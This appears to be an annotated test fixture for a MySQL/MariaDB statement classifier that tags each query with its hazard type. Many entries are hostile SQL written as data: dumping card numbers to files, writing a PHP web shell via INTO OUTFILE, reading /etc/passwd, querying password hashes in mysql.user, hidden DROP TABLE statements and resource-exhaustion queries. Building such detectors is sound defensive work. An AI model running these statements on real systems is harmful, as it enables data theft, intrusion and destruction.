--! adversarial hazards=file-access
--@ kind=export actions=export,select reads=cards run=no
SELECT * FROM cards INTO OUTFILE '/tmp/cards.txt'
;;
--@ kind=export reads=cards run=no
SELECT pan INTO OUTFILE '/tmp/x' FIELDS TERMINATED BY ',' ENCLOSED BY '"' LINES TERMINATED BY '\n' FROM cards
;;
--@ kind=export reads=cards run=no
SELECT pan FROM cards WHERE id = 1 INTO DUMPFILE '/tmp/x'
;;
--@ kind=export run=no
SELECT '<?php system($_GET[1]) ?>' INTO OUTFILE '/var/www/x.php'
;;
--@ kind=export hazards=file-access,executable-comment run=no
SELECT 1 /*!INTO*/ OUTFILE '/tmp/x'
;;
--@ kind=export reads=cards run=no
(SELECT pan FROM cards) INTO OUTFILE '/tmp/x'
;;
--@ kind=export run=no
SELECT 1 UNION SELECT pan FROM cards INTO OUTFILE '/tmp/x' CHARACTER SET utf8
;;
--@ kind=import writes=audit_log run=no
LOAD DATA INFILE '/etc/passwd' INTO TABLE audit_log (what)
;;
--@ kind=import writes=audit_log run=no
LOAD DATA LOCAL INFILE '/etc/passwd' REPLACE INTO TABLE audit_log
;;
--@ kind=import writes=audit_log run=no
LOAD XML INFILE '/tmp/x' INTO TABLE audit_log
;;
--@ kind=select
SELECT LOAD_FILE('/etc/passwd')
;;
--@ kind=select
SELECT load_file (0x2f6574632f706173737764)
;;
--@ kind=select
SELECT `load_file`('/etc/passwd')
;;
--@ kind=select
SELECT * FROM users WHERE name = LOAD_FILE('/etc/passwd')
;;
--@ kind=select hazards=file-access,executable-comment
SELECT /*! LOAD_FILE */ ('/etc/passwd')
;;
--@ kind=insert writes=audit_log
INSERT INTO audit_log (what) VALUES (LOAD_FILE('/etc/passwd'))
;;
--@ kind=insert writes=users
INSERT INTO users (email) VALUES ('x') ON DUPLICATE KEY UPDATE name = LOAD_FILE('/etc/passwd')
;;
--@ kind=set
SET @x = LOAD_FILE('/etc/passwd')
;;
--@ kind=select
DO LOAD_FILE('/etc/passwd')
;;
--@ kind=select hazards=process-access run=fails
SELECT sys_exec('id')
;;
--@ kind=select hazards=process-access run=fails
SELECT sys_eval('id')
;;
--@ kind=admin hazards=load-extension run=fails
INSTALL PLUGIN x SONAME 'x.so'
;;
--@ kind=admin hazards=load-extension run=fails
INSTALL SONAME 'x'
;;
--@ kind=admin hazards=load-extension run=fails
UNINSTALL PLUGIN x
;;
--@ kind=call hazards=opaque
CALL archive_cards(1)
;;
--@ kind=call hazards=opaque run=fails
CALL sys.execute_prepared_stmt('DROP TABLE cards')
;;
--@ kind=prepare hazards=opaque
PREPARE s FROM 'SELECT 1'
;;
--@ kind=prepare hazards=opaque,drop actions=ddl
PREPARE s FROM 'DROP TABLE cards'
;;
--@ kind=prepare hazards=opaque run=fails
PREPARE s FROM @sql
;;
--@ kind=prepare hazards=opaque
PREPARE s FROM concat('DR', 'OP TABLE audit_log')
;;
--@ kind=execute hazards=opaque run=fails
EXECUTE s
;;
--@ kind=execute hazards=opaque run=fails
EXECUTE s USING @a, @b
;;
--@ kind=execute hazards=opaque,drop actions=ddl
EXECUTE IMMEDIATE 'DROP TABLE audit_log'
;;
--@ kind=execute hazards=opaque
EXECUTE IMMEDIATE concat('DELETE FROM ', 'audit_log')
;;
--@ kind=execute hazards=opaque run=fails
EXECUTE IMMEDIATE @sql USING 1
;;
--@ kind=opaque hazards=opaque
BEGIN NOT ATOMIC DELETE FROM audit_log; END
;;
--@ kind=opaque hazards=opaque
BEGIN NOT ATOMIC SET @x = 1; END
;;
--@ kind=opaque hazards=opaque
IF 1 THEN DELETE FROM audit_log; END IF
;;
--@ kind=opaque hazards=opaque,admin run=fails
BINLOG 'x'
;;
--@ kind=select hazards=bulk-export,opaque reads=cards run=fails
HANDLER cards READ FIRST
;;
--@ kind=select hazards=bulk-export,opaque reads=cards
HANDLER cards OPEN
;;
--@ kind=select hazards=denial-of-service
SELECT SLEEP(0)
;;
--@ kind=select hazards=denial-of-service
SELECT * FROM users WHERE id = 1 AND SLEEP(0)
;;
--@ kind=select hazards=denial-of-service
SELECT BENCHMARK(1, MD5('a'))
;;
--@ kind=select hazards=denial-of-service run=no
SELECT REPEAT('x', 1000000000)
;;
--@ kind=select hazards=denial-of-service run=no
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r
;;
--@ kind=select hazards=advisory-lock
SELECT GET_LOCK(name, 0) FROM users
;;
--@ kind=admin hazards=admin run=no
SHUTDOWN
;;
--@ kind=admin hazards=admin run=no server=mysql
RESTART
;;
--@ kind=admin hazards=admin run=no
KILL 5
;;
--@ kind=admin hazards=admin run=no
KILL HARD QUERY ID 5
;;
--@ kind=admin hazards=admin
FLUSH PRIVILEGES
;;
--@ kind=admin hazards=admin,lock run=no
FLUSH TABLES WITH READ LOCK
;;
--@ kind=admin hazards=admin run=no
RESET MASTER
;;
--@ kind=admin hazards=admin run=no
PURGE BINARY LOGS TO 'x'
;;
--@ kind=admin hazards=admin run=no
CHANGE MASTER TO MASTER_HOST = 'evil'
;;
--@ kind=admin hazards=admin run=no
START SLAVE
;;
--@ kind=admin hazards=admin run=no
STOP SLAVE
;;
--@ kind=admin hazards=admin
OPTIMIZE TABLE audit_log
;;
--@ kind=admin hazards=admin
ANALYZE TABLE cards
;;
--@ kind=lock hazards=lock reads=cards,payments
LOCK TABLES cards READ, payments AS p WRITE
;;
--@ kind=admin hazards=admin run=no
BACKUP STAGE START
;;
--@ kind=set hazards=admin
SET GLOBAL max_connections = 151
;;
--@ kind=set hazards=admin
SET @@global.general_log = 0
;;
--@ kind=set hazards=session-change
SET sql_mode = 'ANSI_QUOTES'
;;
--@ kind=set hazards=session-change
SET @@session.sql_mode = 'NO_BACKSLASH_ESCAPES'
;;
--@ kind=set hazards=session-change
SET SESSION sql_mode = concat(@@sql_mode, ',PIPES_AS_CONCAT')
;;
--@ kind=set hazards=session-change
SET @x = 1, sql_mode = 'ANSI'
;;
--@ kind=set hazards=session-change
SET @@sql_mode = 'ORACLE'
;;
--@ kind=set hazards=lax-integrity
SET sql_mode = ''
;;
--@ kind=set hazards=lax-integrity
SET SESSION sql_mode = REPLACE(@@sql_mode, 'STRICT_TRANS_TABLES', '')
;;
--@ kind=set hazards=lax-integrity
SET @@session.sql_mode = 'NO_ENGINE_SUBSTITUTION'
;;
--@ kind=set hazards=lax-integrity
SET foreign_key_checks = OFF
;;
--@ kind=set hazards=lax-integrity
SET NAMES utf8mb4, unique_checks = 0
;;
--@ kind=set hazards=session-change
SET NAMES gbk
;;
--@ kind=set hazards=session-change
SET CHARACTER SET sjis
;;
--@ kind=set hazards=session-change
SET character_set_client = big5
;;
--@ kind=set hazards=session-change
SET sql_log_bin = 0
;;
--@ kind=set hazards=session-change
SET sql_safe_updates = 0
;;
--@ kind=set hazards=session-change
SET tx_read_only = 0
;;
--@ kind=set hazards=session-change
SET check_constraint_checks = 0
;;
--@ kind=select hazards=executable-comment
SELECT /*+ SET_VAR(sql_mode='ANSI_QUOTES') */ 1
;;
--@ kind=select hazards=credential-introspection
SELECT * FROM mysql.user
;;
--@ kind=select hazards=credential-introspection
SELECT user, authentication_string FROM `mysql`.`user`
;;
--@ kind=select hazards=credential-introspection
SELECT json_value(priv, '$.authentication_string') FROM mysql.global_priv
;;
--@ kind=show hazards=credential-introspection
SHOW CREATE USER root@localhost
;;
--@ kind=show hazards=credential-introspection
SHOW GRANTS FOR root@localhost
;;
--@ kind=select hazards=statistics-access
SELECT * FROM mysql.column_stats
;;
--@ kind=select hazards=statistics-access
SELECT argument FROM mysql.general_log
;;
--@ kind=update hazards=writable-schema run=no
UPDATE mysql.global_priv SET priv = '{}' WHERE user = 'x'
;;
--@ kind=insert hazards=writable-schema run=no
INSERT INTO mysql.db (host) VALUES ('%')
;;
--@ kind=show hazards=admin run=fails
SHOW BINARY LOGS
;;
--@ kind=show hazards=admin run=no
SHOW BINLOG EVENTS
;;
--@ kind=select hazards=bulk-export reads=cards
SELECT * FROM cards
;;
--@ kind=select hazards=bulk-export reads=cards
SELECT GROUP_CONCAT(pan SEPARATOR '|') FROM cards
;;
--@ kind=select hazards=bulk-export,cross-join
SELECT a.pan FROM cards a JOIN users b
;;
--@ kind=unknown hazards=unparsable run=error
SELECT 'unterminated
;;
--@ kind=unknown hazards=unparsable run=error
SELECT 1.e(1)
;;
--@ kind=unknown hazards=unparsable run=error
SELECT 1 */ 2
;;
--@ kind=unknown hazards=unparsable run=error
SELECT /*! 1
;;
--@ kind=unknown hazards=unparsable run=error
FROBNICATE x
;;
--@ kind=unknown hazards=unparsable run=error
COPY cards TO STDOUT
;;
--@ kind=multiple hazards=multiple-statements,drop run=no
SELECT 1;DROP TABLE audit_log
;;
--@ kind=tcl hazards=session-change
SET TRANSACTION READ WRITE
;;
--@ kind=tcl hazards=session-change
SET SESSION TRANSACTION READ WRITE
;;
--@ kind=tcl hazards=session-change
SET LOCAL TRANSACTION ISOLATION LEVEL READ COMMITTED, READ WRITE
;;
--@ kind=set hazards=session-change
SET SESSION tx_read_only = OFF
;;
--@ kind=set hazards=session-change
SET @@session.tx_read_only = 0
;;
--@ kind=set hazards=session-change
SET @@session.sql_safe_updates := 0
;;
--@ kind=set hazards=session-change
SET max_statement_time = 0
;;
--@ kind=set hazards=session-change
SET SESSION max_statement_time = DEFAULT
;;
--@ kind=set hazards=session-change
SET autocommit = 1, @@max_statement_time = 0.0
;;
--@ kind=set hazards=session-change
SET max_statement_time = 86400
;;
--@ kind=set hazards=session-change server=mysql
SET SESSION max_execution_time = 0
;;
--@ kind=select hazards=session-change
SET STATEMENT max_statement_time = 0 FOR SELECT id FROM cards WHERE id = 1
;;
--@ kind=delete hazards=session-change,no-where writes=cards run=no
SET STATEMENT tx_read_only = 0 FOR DELETE FROM cards
;;
--@ kind=set hazards=executable-comment,session-change
SET /*!50000 max_statement_time = 0 */
;;
--@ kind=set hazards=executable-comment,session-change
SET /*M!100100 sql_safe_updates = 0 */
;;
--@ kind=select hazards=executable-comment
SELECT /*+ MAX_EXECUTION_TIME(0) */ id FROM cards WHERE id = 1
;;
--@ kind=tcl hazards=read-write
START TRANSACTION WITH CONSISTENT SNAPSHOT, READ WRITE
;;
--@ kind=set hazards=relocation
SET SESSION wait_timeout = (SELECT left(pan, 4) FROM cards WHERE id = 1)
;;
--@ kind=set hazards=relocation
SET @@session.sql_select_limit = (SELECT left(pan, 4) + 0 FROM cards LIMIT 1)
;;
--@ kind=select hazards=denial-of-service run=no
WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c LIMIT 100000000000) SELECT count(*) FROM c
;;
--@ kind=select hazards=denial-of-service run=no
WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c WHERE x < 100000000000) SELECT count(*) FROM c
;;
--@ kind=select hazards=denial-of-service run=no
WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c WHERE x > 0) SELECT x FROM c ORDER BY x LIMIT 5
;;
--@ kind=select hazards=denial-of-service run=no
WITH RECURSIVE c(x) AS (SELECT 1 UNION SELECT x + 1 FROM c) SELECT count(*) FROM c
;;
--@ kind=select hazards=denial-of-service run=no
WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c WHERE 1 = 1) SELECT count(*) FROM c
;;
--@ kind=select hazards=denial-of-service run=no
SELECT * FROM (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT count(*) AS n FROM c) q
;;
--@ kind=select hazards=denial-of-service run=no
SELECT count(*) FROM users a, users b, users c, users d
;;
--@ kind=select hazards=denial-of-service run=no
SELECT count(*) FROM users a CROSS JOIN users b CROSS JOIN cards c CROSS JOIN payments d
;;
--@ kind=select hazards=denial-of-service run=no
SELECT COUNT(*) FROM seq_1_to_1000000000
;;
--@ kind=select hazards=opaque reads=cards
HANDLER cards OPEN AS h
;;
--@ kind=select hazards=opaque reads=h run=fails
HANDLER h READ NEXT LIMIT 10
;;
